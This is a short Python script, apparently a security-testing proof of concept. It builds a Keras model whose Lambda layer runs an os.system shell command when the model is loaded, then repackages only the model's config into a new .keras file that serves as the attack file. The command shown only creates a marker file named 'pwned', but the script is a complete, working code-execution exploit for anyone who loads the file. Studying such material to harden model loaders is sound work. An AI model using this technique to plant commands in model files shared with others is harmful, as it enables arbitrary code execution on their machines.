import os
os.environ["KERAS_BACKEND"]="torch"
import keras, zipfile
m = keras.Sequential([keras.Input((4,)), keras.layers.Lambda(lambda x: (__import__("os").system("touch /tmp/rt18/pwned_keras_cfgonly"), x)[1])])
m.save("base_lambda2.keras")
z = zipfile.ZipFile("base_lambda2.keras")
with zipfile.ZipFile("fn_keras_cfgonly.keras","w") as o:
    o.writestr("config.json", z.read("config.json"))
os.remove("fn_keras_npzweights.keras")
